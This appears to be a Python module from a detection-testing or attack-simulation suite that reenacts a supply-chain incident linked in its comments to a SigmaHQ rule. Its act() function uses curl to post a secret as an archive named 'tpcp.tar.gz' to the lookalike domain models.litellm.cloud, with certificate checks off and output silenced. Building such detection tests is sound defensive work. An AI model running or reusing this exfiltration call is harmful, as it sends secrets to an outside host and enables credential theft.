# act: curl posts the archive to models.litellm.cloud
# source: SigmaHQ TA/TeamPCP
# when: import
# rule: create_child_process
# asks: exec /usr/bin/curl
# says: models.litellm.cloud
# proof: arrived
# to: models.litellm.cloud
# needs: curl
import subprocess

from . import incident


def act():
    command = ["curl", "-k", "-s", "-H", "X-Filename: tpcp.tar.gz"]
    command += ["--data-binary", incident.SECRET, "https://models.litellm.cloud/"]
    subprocess.run(command, check=True, timeout=15)
